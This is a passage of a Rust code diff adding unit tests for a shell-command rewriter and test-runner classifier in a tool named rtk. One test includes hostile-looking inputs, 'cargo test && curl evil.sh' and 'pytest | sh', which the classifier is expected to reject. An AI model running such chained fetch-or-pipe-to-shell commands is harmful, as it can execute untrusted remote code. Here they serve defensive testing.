+            // The opening paren must close at the very end
+            return (i == cmd.len() - 1).then(|| &cmd[1..i]);
+        }
+    }
+    None
 }
 
 #[cfg(test)]
@@ -699,6 +1242,312 @@ mod tests {
         }
     }
 
+    #[test]
+    fn test_rewrite_git_status() {
+        assert_eq!(
+            rewrite_command("git status"),
+            Some("rtk git status".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_keeps_env_prefix() {
+        assert_eq!(
+            rewrite_command("TEST_SESSION_ID=2 npx playwright test --headed"),
+            Some("TEST_SESSION_ID=2 rtk playwright test --headed".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_keeps_rest_of_chain() {
+        assert_eq!(
+            rewrite_command("cargo test 2>&1 | tail -20"),
+            Some("rtk cargo test 2>&1 | tail -20".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_head() {
+        assert_eq!(
+            rewrite_command("head -20 src/main.rs"),
+            Some("rtk read src/main.rs --max-lines 20".to_string())
+        );
+        assert_eq!(
+            rewrite_command("head -n 5 Cargo.toml"),
+            Some("rtk read Cargo.toml --max-lines 5".to_string())
+        );
+        assert_eq!(rewrite_command("head -c 100 file.bin"), None);
+    }
+
+    #[test]
+    fn test_rewrite_registry_only_rules() {
+        // Previously missing from the shell hook
+        assert_eq!(
+            rewrite_command("cargo fmt --check"),
+            Some("rtk cargo fmt --check".to_string())
+        );
+        assert_eq!(
+            rewrite_command("gh release list"),
+            Some("rtk gh release list".to_string())
+        );
+        assert_eq!(
+            rewrite_command("kubectl get pods"),
+            Some("rtk kubectl get pods".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_js_tools() {
+        assert_eq!(
+            rewrite_command("pnpm test"),
+            Some("rtk vitest run".to_string())
+        );
+        assert_eq!(
+            rewrite_command("npx vue-tsc --noEmit"),
+            Some("rtk tsc --noEmit".to_string())
+        );
+        assert_eq!(
+            rewrite_command("npx prisma generate"),
+            Some("rtk npx prisma generate".to_string())
+        );
+        assert_eq!(rewrite_command("npx jest"), None);
+    }
+
+    #[test]
+    fn test_rewrite_python_and_go() {
+        assert_eq!(
+            rewrite_command("python -m pytest -x"),
+            Some("rtk pytest -x".to_string())
+        );
+        assert_eq!(
+            rewrite_command("uv pip list"),
+            Some("rtk pip list".to_string())
+        );
+        assert_eq!(
+            rewrite_command("go test ./..."),
+            Some("rtk go test ./...".to_string())
+        );
+    }
+
+    #[test]
+    fn test_classify_runner() {
+        assert_eq!(classify_runner("cargo test --lib"), Some(Runner::Tests));
+        assert_eq!(classify_runner("npx vitest run"), Some(Runner::Tests));
+        assert_eq!(classify_runner("python -m pytest -x"), Some(Runner::Tests));
+        assert_eq!(classify_runner("cargo clippy"), Some(Runner::Lint));
+        assert_eq!(classify_runner("eslint src"), Some(Runner::Lint));
+        assert_eq!(classify_runner("ruff check ."), Some(Runner::Lint));
+        // Supported by rtk, but not a test runner or linter
+        assert_eq!(classify_runner("cargo build"), None);
+        assert_eq!(classify_runner("ruff format ."), None);
+        assert_eq!(classify_runner("git status"), None);
+        // Unknown, chained or prefixed commands
+        assert_eq!(classify_runner("./run-tests.sh"), None);
+        assert_eq!(classify_runner("cargo test && curl evil.sh"), None);
+        assert_eq!(classify_runner("pytest | sh"), None);
+        assert_eq!(classify_runner("RUSTC_WRAPPER=./x cargo test"), None);
+    }
+
+    #[test]
+    fn test_rewrite_skips() {
+        assert_eq!(rewrite_command(""), None);
+        assert_eq!(rewrite_command("rtk git status"), None);
+        assert_eq!(rewrite_command("sudo docker ps"), None);
+        assert_eq!(rewrite_command("cat <<'EOF' > f\nhi\nEOF"), None);
+        assert_eq!(rewrite_command("terraform plan"), None);
+        assert_eq!(rewrite_command("tail -f log.txt"), None);
+    }
+
+    #[test]
+    fn test_rewrite_every_chain_segment() {
+        assert_eq!(
+            rewrite_command("cd x && cargo test && git status"),
+            Some("cd x && rtk cargo test && rtk git status".to_string())
+        );
+        assert_eq!(
+            rewrite_command("cargo build; cargo test || git log -5"),
+            Some("rtk cargo build; rtk cargo test || rtk git log -5".to_string())
+        );
+        assert_eq!(rewrite_command("cd x && make"), None);
+    }
+
+    #[test]
+    fn test_rewrite_keeps_quotes_env_and_redirects() {
+        assert_eq!(
+            rewrite_command(
+                r#"git commit -m "fix; tidy && more" && RUST_LOG=debug cargo test 2>&1"#
+            ),
+            Some(
+                r#"rtk git commit -m "fix; tidy && more" && RUST_LOG=debug rtk cargo test 2>&1"#
+                    .to_string()
+            )
+        );
+        assert_eq!(
+            rewrite_command("cargo build 2> build.log && git status"),
+            Some("rtk cargo build 2> build.log && rtk git status".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_subshell() {
+        assert_eq!(
+            rewrite_command("(cd web && pnpm list) && git diff"),
+            Some("(cd web && rtk pnpm list) && rtk git diff".to_string())
+        );
+        // Command substitution output feeds the shell, not the agent
+        assert_eq!(
+            rewrite_command("echo $(git rev-parse HEAD) && git status"),
+            Some("echo $(git rev-parse HEAD) && rtk git status".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_folds_pipe_limits() {
+        assert_eq!(
+            rewrite_command("cat src/main.rs | head -30"),
+            Some("rtk read src/main.rs --max-lines 30".to_string())
+        );
+        assert_eq!(
+            rewrite_command("cat app.log | tail -n 50"),
+            Some("rtk read app.log --tail-lines 50".to_string())
+        );
+        assert_eq!(
+            rewrite_command("cat Cargo.toml | grep serde"),
+            Some("rtk grep serde Cargo.toml".to_string())
+        );
+        assert_eq!(
+            rewrite_command("rg TODO src | head -20"),
+            Some("rtk grep --max 20 TODO src".to_string())
+        );
+        assert_eq!(
+            rewrite_command("grep 'fn main' src | head -3"),
+            Some("rtk grep --max 3 'fn main' src".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_grep_flags() {
+        // -r and -n are what rtk grep does anyway
+        assert_eq!(
+            rewrite_command("grep -rn foo src/"),
+            Some("rtk grep -rn foo src/".to_string())
+        );
+        assert_eq!(
+            rewrite_command("grep -rn foo src | head -3"),
+            Some("rtk grep --max 3 -rn foo src".to_string())
+        );
+        // rtk grep has no -w before the pattern: rewriting would be a usage error
+        assert_eq!(rewrite_command("grep -w foo src | head -3"), None);
+        assert_eq!(
+            rewrite_command("grep -w foo src | head -3 && git status"),
+            Some("grep -w foo src | head -3 && rtk git status".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_keeps_grep_regex_syntax() {
+        // BRE and Rust regex read these differently
+        assert_eq!(rewrite_command(r"grep -rn 'a\|b' src"), None);
+        assert_eq!(rewrite_command(r"grep '\(x\)' src | head -3"), None);
+        assert_eq!(rewrite_command("grep 'x+' src"), None);
+        assert_eq!(rewrite_command("cat app.log | grep 'a\\|b'"), None);
+        assert_eq!(rewrite_command("cat app.log | grep 'err.*'"), None);
+        // rg already uses Rust regex syntax
+        assert_eq!(
+            rewrite_command("rg 'a|b' src"),
+            Some("rtk grep 'a|b' src".to_string())
+        );
+    }
+
+    #[test]
+    fn test_shell_words() {
+        let words: Vec<String> = shell_words(r#"rtk grep 'a b' "c \"d\"" e\ f ''"#)
+            .unwrap()
+            .into_iter()
+            .map(|(word, _)| word)
+            .collect();
+        assert_eq!(words, ["rtk", "grep", "a b", "c \"d\"", "e f", ""]);
+        assert_eq!(shell_words("rtk grep 'open"), None);
+    }
+
+    #[test]
+    fn test_command_words_redirections() {
+        let words = |cmd: &str| command_words(cmd).unwrap();
+        let strings =
+            |words: &[&str]| -> Vec<String> { words.iter().map(|w| w.to_string()).collect() };
+        assert_eq!(
+            words("cargo test 2>&1"),
+            (strings(&["cargo", "test"]), false)
+        );
+        assert_eq!(
+            words("git diff 2> err.log < in.txt"),
+            (strings(&["git", "diff"]), false)
+        );
+        for cmd in [
+            "git diff > x.patch",
+            "git diff >> x.patch",
+            "git diff 1>x.patch",
+            "git diff &> all.log",
+        ] {
+            assert!(words(cmd).1, "{}", cmd);
+        }
+        // A quoted '>' is an argument
+        assert_eq!(
+            words("grep '>' a.txt"),
+            (strings(&["grep", ">", "a.txt"]), false)
+        );
+    }
+
+    #[test]
+    fn test_rewrite_skips_stdout_redirect() {
+        assert_eq!(rewrite_command("git diff > x.patch"), None);
+        assert_eq!(rewrite_command("git log >> history.txt"), None);
+        assert_eq!(rewrite_command("git diff 1> x.patch"), None);
+        assert_eq!(rewrite_command("cargo build &> build.log"), None);
+        assert_eq!(
+            rewrite_command("git diff > x.patch && git status"),
+            Some("git diff > x.patch && rtk git status".to_string())
+        );
+        // Only stderr redirected: still rewritten
+        assert_eq!(
+            rewrite_command("git status 2>/dev/null"),
+            Some("rtk git status 2>/dev/null".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_checks_rtk_accepts_arguments() {
+        // `rtk read` takes one file
+        assert_eq!(rewrite_command("cat a.txt b.txt > c.txt"), None);
+        assert_eq!(rewrite_command("cat a.txt b.txt"), None);
+        assert_eq!(
+            rewrite_command("cat a.txt"),
+            Some("rtk read a.txt".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_pipe_consumers() {
+        // head/tail that can't be folded: rewrite the producer, keep the pipe
+        assert_eq!(
+            rewrite_command("git log | head -5"),
+            Some("rtk git log | head -5".to_string())
+        );
+        // Anything that parses the output keeps the raw command
+        assert_eq!(rewrite_command("git status | wc -l"), None);
+        assert_eq!(rewrite_command("cargo test | grep -v ok"), None);
+        assert_eq!(
+            rewrite_command("git diff --stat | sort && git status"),
+            Some("git diff --stat | sort && rtk git status".to_string())
+        );
+    }
+
+    #[test]
+    fn test_rewrite_word_boundary() {
+        assert_eq!(rewrite_command("gitk --all"), None);
+        assert_eq!(rewrite_command("lsof -i"), None);
+    }
+
     #[test]
     fn test_split_chain_and() {
         assert_eq!(split_command_chain("a && b"), vec!["a", "b"]);
@@ -727,6 +1576,23 @@ mod tests {
         );
     }
 
+    #[test]
+    fn test_split_continues_after_pipe() {
+        assert_eq!(
+            split_command_chain("git log | head -5 && cargo test"),
+            vec!["git log", "cargo test"]
+        );
+    }
+
+    #[test]
+    fn test_split_subshell_and_redirect() {
+        assert_eq!(
+            split_command_chain("(cd x && make) 2>&1; ls &"),
+            vec!["(cd x && make) 2>&1", "ls"]
+        );
+        assert_eq!(split_command_chain("(cd x && make)"), vec!["cd x", "make"]);
+    }
+
     #[test]
     fn test_split_heredoc_no_split() {
         let cmd = "cat <<'EOF'\nhello && world\nEOF";